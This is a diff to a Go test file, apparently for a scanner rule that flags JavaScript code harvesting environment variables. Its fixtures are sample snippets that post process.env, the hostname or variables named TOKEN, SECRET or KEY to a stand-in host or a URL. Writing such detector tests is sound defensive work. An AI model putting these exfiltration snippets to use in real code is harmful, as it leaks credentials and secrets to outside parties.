@@ -10,6 +10,9 @@ import (
 
 func TestEnvHarvest(t *testing.T) {
 	rt.Check(t, EnvHarvest{}, []rt.Case{
+		// the environment serialised for the tool's child process, or for a request
+		{"stringified_for_child", map[string]string{"run.js": `const c = require("child_process").spawn(process.execPath, ["w.js"]); c.stdin.end(JSON.stringify({ task, env: process.env }))`}, finding.SeverityMedium},
+		{"stringified_record", map[string]string{"a.js": `const info = JSON.stringify({ h: require("os").hostname(), env: process.env }); require("https").request({ hostname: "c.example.invalid", method: "POST" }).end(info)`}, finding.SeverityCritical},
 		{"stringify", map[string]string{"index.js": `fetch(u, {method:"POST", body: JSON.stringify(process.env)})`}, finding.SeverityCritical},
 		// secret-named variables picked by a test, collected and sent
 		{"filtered_then_sent", map[string]string{"index.js": `var k = Object.keys(process.env).filter(function (x) { return /TOKEN|SECRET|KEY/.test(x) }); var o = {}; k.forEach(function (x) { o[x] = process.env[x] });
